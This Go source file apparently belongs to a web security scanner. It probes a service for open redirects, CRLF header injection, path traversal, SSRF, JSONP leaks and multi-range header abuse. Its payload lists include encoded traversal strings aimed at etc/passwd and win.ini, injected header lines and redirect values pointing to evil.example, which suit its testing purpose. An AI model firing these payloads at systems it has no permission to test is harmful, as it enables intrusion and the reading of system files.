package attack

import (
	"context"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"time"
)

// A parameter is one that a place takes, or may take.
type parameter struct {
	path  string // without the query
	query url.Values
	name  string
	as    Session // that the place wants
}

// with is a request with a value of the parameter, as it goes over the wire.
func (p parameter) with(value string) Request {
	others := url.Values{}
	for name, values := range p.query {
		if name != p.name {
			others[name] = values
		}
	}
	query := p.name + "=" + value
	if len(others) > 0 {
		query = others.Encode() + "&" + query
	}
	r := Request{Path: p.path + "?" + query}
	if p.as.begun() {
		r.Header = p.as.header()
	}
	return r
}

// taking returns the parameters that the places take, and those that they may:
// guesses, at the first few places.
func (s *scan) taking(guesses []string) (all []parameter) {
	for i, r := range s.places() {
		path, raw, _ := strings.Cut(r.Path, "?")
		query, err := url.ParseQuery(raw)
		if err != nil {
			continue
		}
		names := slices.Sorted(keys(query))
		if i < 5 {
			names = append(names, guesses...)
		}
		for n, name := range names {
			if !slices.Contains(names[:n], name) && len(all) < 200 {
				p := parameter{path: path, query: query, name: name}
				if r.Private {
					p.as = s.bob
				}
				all = append(all, p)
			}
		}
	}
	return all
}

func keys(v url.Values) func(func(string) bool) {
	return func(yield func(string) bool) {
		for name := range v {
			if !yield(name) {
				return
			}
		}
	}
}

// parameters puts into each parameter what a handler should not use as it is.
func (s *scan) parameters(ctx context.Context, _ *Client) {
	for _, check := range []func(context.Context, *Client){s.redirects, s.headersWritten, s.paths, s.fetches, s.scripts, s.ranges} {
		check(ctx, s.newClient()) // no limit that one fills is in the way of the next
	}
}

// redirects looks for a Location that a request chooses.
func (s *scan) redirects(ctx context.Context, c *Client) {
	const evil = "evil.example"
	try := func(r Request) bool {
		got, err := c.sendRaw(ctx, r)
		if err != nil || got.Status < 300 || got.Status > 399 || !s.leads(got.Header.Get("Location"), evil) {
			return false
		}
		s.found(openRedirect, "", c.wire(r), "status %d, Location: %q", got.Status, got.Header.Get("Location"))
		return true
	}
	for _, p := range s.taking([]string{"next", "url", "redirect", "redirect_uri", "return", "return_to", "returnUrl", "continue", "dest", "to", "goto"}) {
		for _, value := range []string{"https%3A%2F%2F" + evil + "%2F", "%2F%2F" + evil, "%2F%5C" + evil, "%2F%09%2F" + evil, "https%3A" + evil, "%20https%3A%2F%2F" + evil} {
			if try(p.with(value)) {
				break
			}
		}
	}
	for _, path := range []string{"//" + evil, "//" + evil + "/..", "/%5C" + evil, "/%2F" + evil, "///" + evil + "/%2e%2e"} {
		try(Request{Path: path}) // a redirect that adds or takes away a slash
	}
}

// leads reports whether a browser would go to a host (URL Standard section 4.4:
// it drops tabs and line ends, and takes backslashes for slashes).
func (s *scan) leads(location, host string) bool {
	location = strings.NewReplacer("\t", "", "\n", "", "\r", "", "\\", "/").Replace(strings.TrimSpace(location))
	if scheme, rest, ok := strings.Cut(location, ":"); ok && (scheme == "https" || scheme == "http") {
		location = scheme + "://" + strings.TrimLeft(rest, "/")
	} else if strings.HasPrefix(location, "//") {
		location = "//" + strings.TrimLeft(location, "/")
	}
	to, err := s.base.Parse(location)
	return err == nil && to.Hostname() == host
}

// headersWritten looks for a header that a request wrote.
func (s *scan) headersWritten(ctx context.Context, c *Client) {
	const injected = "%0d%0aX-Attack:%20" + htmlMark
	try := func(r Request) {
		if got, err := c.sendRaw(ctx, r); err == nil && strings.Contains(got.Header.Get("X-Attack"), htmlMark) {
			s.found(headerInjection, "", c.wire(r), "status %d, X-Attack: %q", got.Status, got.Header.Get("X-Attack"))
		}
	}
	for _, p := range s.taking([]string{"next", "lang", "filename", "callback"}) {
		try(p.with("%2Fx" + injected))
	}
	try(Request{Path: "/attack-missing" + injected})
	try(Request{Path: strings.TrimSuffix(or(s.target.Public, "/"), "/") + injected})
}

// inFile is what the files hold that paths are tried with.
var inFile = regexp.MustCompile(`root:[^:\n]*:0:0:|\[(fonts|extensions)\]`) // read-only

// paths leaves the folder of a file, in parameters and in paths.
func (s *scan) paths(ctx context.Context, c *Client) {
	const up, file = "../../../../../../../../", "etc/passwd"
	try := func(r Request) bool {
		got, err := c.sendRaw(ctx, r)
		hit := err == nil && served(got) && inFile.Match(got.Body)
		if hit {
			s.found(traversal, "", c.wire(r), "status %d, and the file", got.Status)
		}
		return hit
	}
	spelt := []string{up + file, "%2F" + file, strings.ReplaceAll(up, "/", "%2F") + file, strings.ReplaceAll(up, "../", "....//") + file, strings.ReplaceAll(up, ".", "%252e") + file, strings.ReplaceAll(up, "../", "..%5c") + "windows%5cwin.ini", up + file + "%00.png", "file%3A%2F%2F%2F" + file}
	for _, p := range s.taking([]string{"file", "path", "page", "name", "template", "document", "download", "filename"}) {
		for _, value := range spelt {
			if try(p.with(value)) {
				break
			}
		}
	}
	for _, folder := range s.folders() {
		for _, steps := range []string{up, strings.ReplaceAll(up, "../", "%2e%2e/"), strings.ReplaceAll(up, "../", "..%2f"), strings.ReplaceAll(up, "../", "..%5c"), strings.ReplaceAll(up, "../", ".../...//")} {
			if try(Request{Path: folder + steps + file}) {
				break
			}
		}
	}
}

// fetches has the service fetch a URL of ours. It needs a target on this machine,
// since only that can reach the listener.
func (s *scan) fetches(ctx context.Context, c *Client) {
	if addr, err := net.ResolveTCPAddr("tcp", net.JoinHostPort(s.base.Hostname(), "80")); err != nil || !addr.IP.IsLoopback() {
		return
	}
	ln, err := new(net.ListenConfig).Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return
	}
	var mu sync.Mutex
	asked := map[string]bool{}
	srv := &http.Server{ReadHeaderTimeout: answerTimeout, Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if len(asked) < 1000 {
			asked[strings.TrimPrefix(r.URL.Path, "/")] = true
		}
	})}
	var ended sync.WaitGroup
	ended.Go(func() { _ = srv.Serve(ln) }) // it ends with Close, below
	defer func() { _ = srv.Close(); ended.Wait() }()

	sent := map[string]Request{}
	us := func(n int) string { return "http://" + ln.Addr().String() + "/attack" + itoa(n) }
	for _, p := range s.taking([]string{"url", "uri", "src", "image", "feed", "webhook", "callback", "proxy", "target", "link"}) {
		r := p.with(url.QueryEscape(us(len(sent))))
		if _, ok := s.send(ctx, c, r); !ok {
			return
		}
		sent["attack"+itoa(len(sent))] = r
	}
	if w := s.target.Write; s.alice.begun() && urls.MatchString(w.Body) {
		w.Method = or(w.Method, http.MethodPost)
		w.Body = urls.ReplaceAllString(w.Body, `"`+us(len(sent))+`"`)
		s.send(ctx, c, s.as(s.alice, w))
		sent["attack"+itoa(len(sent))] = w
	}
	select { // a service may fetch after its response
	case <-time.After(300 * time.Millisecond):
	case <-ctx.Done():
	}
	mu.Lock()
	defer mu.Unlock()
	for id := range asked {
		if r, ok := sent[id]; ok {
			s.found(ssrf, "", c.wire(r), "the service came to %s", r.Path)
		}
	}
}

// urls are members that are a URL.
var urls = regexp.MustCompile(`"https?://[^"]*"`) // read-only

// scripts asks for a private answer as a script, which a page of another site may
// load with its visitor's cookies.
func (s *scan) scripts(ctx context.Context, c *Client) {
	if s.target.Secure == "" || !s.bob.begun() {
		return
	}
	sep := "?"
	if strings.Contains(s.target.Secure, "?") {
		sep = "&"
	}
	for _, name := range []string{"callback", "jsonp", "cb"} {
		r := s.as(s.bob, Request{Path: s.target.Secure + sep + name + "=attackcall"})
		if got, ok := s.send(ctx, c, r); ok && served(got) && strings.HasPrefix(strings.TrimLeft(string(got.Body), "/* \n"), "attackcall(") {
			s.found(jsonp, "", c.wire(r), "%.100q", got.Body)
		}
	}
}

// ranges asks for one byte more than once (RFC 9110 section 14.2 lets a server
// refuse that, and CVE-2011-3192 is why).
func (s *scan) ranges(ctx context.Context, c *Client) {
	for _, place := range s.places()[:min(5, len(s.places()))] {
		r := Request{Path: place.Path, Header: http.Header{}}
		if place.Private && s.bob.begun() {
			r.Header = s.bob.header()
		}
		whole, ok := s.send(ctx, c, r)
		if !ok || !served(whole) || len(whole.Body) == 0 {
			continue
		}
		r.Header.Set("Range", "bytes=0-"+strings.Repeat(",0-", 49))
		if got, ok := s.send(ctx, c, r); ok && got.Status == http.StatusPartialContent && len(got.Body) > 10*len(whole.Body) {
			s.found(ranges, "", c.wire(r), "%d bytes of an answer of %d", len(got.Body), len(whole.Body))
		}
	}
}
